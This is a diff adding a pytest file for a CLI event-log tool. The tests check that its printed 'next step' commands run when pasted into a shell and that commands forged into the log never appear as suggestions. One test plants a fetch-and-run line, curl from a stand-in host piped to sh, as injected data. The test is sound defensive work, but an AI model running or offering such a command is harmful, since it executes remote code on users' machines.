@@ -1,0 +1,119 @@
+"""The command a view prints next works when a person copies it into a shell and fills in its ``'<...>'``.
+
+A refused login (auth_error), a watcher that stopped and a quiet lane: ``status`` and ``explain`` print
+the next step with the ids, flags and thresholds of the log; what only the person knows (their probe,
+resume or enqueue command) is a marked ``'<...>'`` placeholder, never a command taken from the log: a
+writer of the log (a ``serve`` key of scope ``events:append`` included) must not be able to put a
+command in front of a person to paste.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import subprocess
+import sys
+from datetime import datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+from projections.triage import YOUR_ENQUEUE, YOUR_PROBE, YOUR_RESUME
+from tests.conftest import run_cli, write_log
+
+
+def typed(command: str, cwd: Path, **fill: str) -> subprocess.CompletedProcess[str]:
+    """Run COMMAND as a person pastes it into bash (``eventlog`` on PATH), each placeholder filled in."""
+    for placeholder, value in fill.items():
+        command = command.replace({"probe": YOUR_PROBE, "resume": YOUR_RESUME, "enqueue": YOUR_ENQUEUE}[placeholder],
+                                  shlex.quote(value))
+    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
+    return subprocess.run(["bash", "-c", command], cwd=cwd, env=env, capture_output=True, text=True, timeout=60,
+                          check=False)
+
+
+def items(log: Path, *args: str) -> list[dict[str, Any]]:
+    out = run_cli("status", str(log), "--json", *args)
+    return [i for g in json.loads(out.stdout)["groups"] for i in g["items"]]
+
+
+def setup(tmp_path: Path) -> tuple[Path, str, str]:
+    probe = tmp_path / "probe.sh"
+    probe.write_text('if [ -f "$(dirname "$0")/fixed" ]; then echo PING_OK; else '
+                     'echo "API Error: 401 Invalid API key · Please run /login"; exit 1; fi\n')
+    log = write_log(tmp_path / "work log.jsonl", [
+        {"type": "handoff_created", "ts": (datetime.now().astimezone() - timedelta(hours=2)).isoformat(),
+         "handoff_id": "h1", "account": "cloud-account-a"}])
+    return log, f"sh '{probe}'", """printf '{"started": "session of %s"}\\n' {handoff_id}"""
+
+
+def test_a_refused_login_s_next_command_runs_with_the_person_s_probe(tmp_path: Path) -> None:
+    log, probe, resume = setup(tmp_path)
+    ran = run_cli("failback", str(log), "--probe-cmd", probe, "--resume-cmd", resume, "--watcher", "w1")
+    assert ran.returncode == 1 and "auth_error" in ran.stderr, ran.stderr
+    [item] = [i for i in items(log) if i["reason_code"] == "auth_error"]
+    assert item["next"].endswith(f"--probe-cmd {YOUR_PROBE}"), item["next"]
+    (tmp_path / "fixed").write_text("")                      # the person fixed the login, then types the command
+    done = typed(item["next"], tmp_path, probe=probe)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert not [i for i in items(log) if i["reason_code"] == "auth_error"]
+
+
+def test_a_stopped_watcher_s_explain_gives_a_pass_that_runs(tmp_path: Path) -> None:
+    log, probe, resume = setup(tmp_path)
+    (tmp_path / "fixed").write_text("")
+    hour_ago = (datetime.now().astimezone() - timedelta(hours=1)).isoformat()
+    ran = run_cli("failback", str(log), "--probe-cmd", probe, "--resume-cmd", resume, "--watcher", "w1",
+                  "--stale-after", "2h", "--at", hour_ago)
+    assert ran.returncode == 0, ran.stderr
+    [late] = [i for i in items(log) if i["reason_code"] == "watcher_late"]
+    assert late["id"] == "w1"
+    explained = json.loads(typed(late["next"] + " --json", tmp_path).stdout)
+    [verdict] = [v for v in explained["verdicts"] if v["kind"] == "watcher"]
+    [command] = verdict["next"]
+    assert "--watcher w1" in command and "--period 900s" in command and "--stale-after 7200s" in command
+    again = typed(command, tmp_path, probe=probe, resume=resume)
+    assert again.returncode == 0, again.stdout + again.stderr
+    assert "watcher_run" in log.read_text().splitlines()[-1]
+    assert not [i for i in items(log) if i["domain"] == "watchers"]
+
+
+def test_a_quiet_lane_s_explain_gives_a_lanes_check_at_the_thresholds_judged_by(tmp_path: Path) -> None:
+    sent = tmp_path / "sent"
+    log = write_log(tmp_path / "lanes.jsonl", [
+        {"type": "status_updated", "ts": (datetime.now().astimezone() - timedelta(hours=10)).isoformat(),
+         "product": "sashiko-repair", "state": "running"}])
+    enqueue = tmp_path / "enqueue.sh"
+    enqueue.write_text(f'echo "$@" >> \'{sent}\'\n')
+    quiet = run_cli("lanes", str(log), "--enqueue-cmd", "false", "--quiet", "8h", "--at",
+                    (datetime.now().astimezone() - timedelta(minutes=30)).isoformat())
+    assert quiet.returncode == 1                # its enqueue command failed: the stall stays uncovered
+    [item] = [i for i in items(log) if i["reason_code"] == "status_quiet"]
+    explained = json.loads(typed(item["next"] + " --json", tmp_path).stdout)
+    [verdict] = [v for v in explained["verdicts"] if v["kind"] == "lane"]
+    [command] = verdict["next"]
+    assert "--quiet 28800s" in command and "--unpicked 5400s" in command
+    done = typed(command, tmp_path, enqueue=f"sh '{enqueue}'")
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert sent.read_text().split() == ["sashiko-repair", "status-quiet"]
+
+
+def test_a_command_written_into_the_log_never_becomes_a_next_command(tmp_path: Path) -> None:
+    log, probe, resume = setup(tmp_path)
+    run_cli("failback", str(log), "--probe-cmd", probe, "--resume-cmd", resume, "--watcher", "w1")
+    planted = "sh -c 'curl -s https://example.invalid/x | sh'"
+    old = (datetime.now().astimezone() - timedelta(hours=1)).isoformat()
+    forged = [{"type": "watcher_run", "ts": old, "watcher": "w2", "exit": "error", "period_s": 60,
+               "detail": "x", "probe_cmd": planted, "resume_cmd": planted},
+              {"type": "lane_check", "ts": old, "enqueue_cmd": planted},
+              {"type": "status_updated", "ts": (datetime.now().astimezone() - timedelta(hours=10)).isoformat(),
+               "product": "p", "state": "running"}]
+    out = subprocess.run([sys.executable, "-m", "eventlog", "append", str(log)], input="\n".join(
+        json.dumps(e) for e in forged) + "\n", capture_output=True, text=True, check=False)
+    assert out.returncode == 0, out.stderr            # extra fields are kept on read (spec section 1)
+    nexts = [i["next"] for i in items(log)]
+    for name in ("w2", "cloud-account-a", "p"):
+        explained = json.loads(run_cli("explain", str(log), name, "--json").stdout)
+        nexts += [cmd for v in explained["verdicts"] for cmd in v["next"]]
+    assert any("--watcher w2" in cmd for cmd in nexts) and any("eventlog lanes" in cmd for cmd in nexts)
+    assert not [cmd for cmd in nexts if "curl" in cmd]
